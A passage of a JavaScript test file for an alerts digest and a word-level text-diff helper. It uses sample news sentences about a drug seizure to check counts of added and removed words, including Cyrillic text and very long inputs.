    const other = $('h2').filter((_, h) => $(h).text().startsWith('Other alerts'));
    expect(other.text()).toBe('Other alerts (3000)');
    const listed = other.next('ul').find('> li').toArray().map((li) => $(li).find('a, b').first().text());
    expect(listed).toHaveLength(ALERTS_PER_SECTION);
    expect(listed.slice(0, 30)).toEqual(Array.from({ length: 30 }, (_, i) => `Alert ${i * 100 + 7}`)); // the critical ones first
    expect(other.next('ul').next('p').text()).toBe('… and 2950 more, the less severe, in the triage queue.');
    expect(draft.text).toContain('… and 2950 more (the less severe) in the triage queue: ');
    expect(draft.subject).toMatch(/3000 alert\(s\)/);
    // Only what was listed is recorded as sent.
    expect(draft.items.filter((k) => k.startsWith('alert:')).length).toBe(ALERTS_PER_SECTION);
  }, 60_000);
});

describe('text changes', () => {
  it('count words added and removed, locate the added ones, and treat an uncomparable rewrite as all new', async () => {
    const { textChange } = await import('../alerts/text-diff.js');
    const before = 'Police seized 300 kg of cocaine in Bar. The suspect is Serbian.';
    const after = 'Police seized 450 kg of cocaine in Bar on Monday. The suspect is Serbian, prosecutors said.';
    const c = textChange(before, after);
    expect([c.addedWords, c.removedWords]).toEqual([5, 1]);
    expect(c.addedRanges.map(([s, e]) => after.slice(s, e))).toEqual(['450', ' on Monday', ', prosecutors said']);
    expect(c.parts!.filter((p) => !p.added).map((p) => p.value).join('')).toBe(before);
    expect(c.parts!.filter((p) => !p.removed).map((p) => p.value).join('')).toBe(after);
    // Only taken out: the first passage removed is what to quote.
    const cut = textChange(`${before} He was released on bail.`, before);
    expect([cut.addedWords, cut.removedWords, cut.firstRemoved]).toEqual([0, 5, 'He was released on bail.']);
    // Cyrillic and diacritics are words too.
    expect(textChange('Ухапшен је Đorđe.', 'Ухапшен је Đorđe Šarić у Гвајакилу.').addedWords).toBe(3); // Šarić, у, Гвајакилу
    // Too long to compare: a rewrite, every word new.
    const long = 'riječ '.repeat(200_000);
    const rewrite = textChange(long, `${long}x`);
    expect(rewrite.parts).toBeNull();
    expect(rewrite.addedWords).toBe(200_001);
  });
});
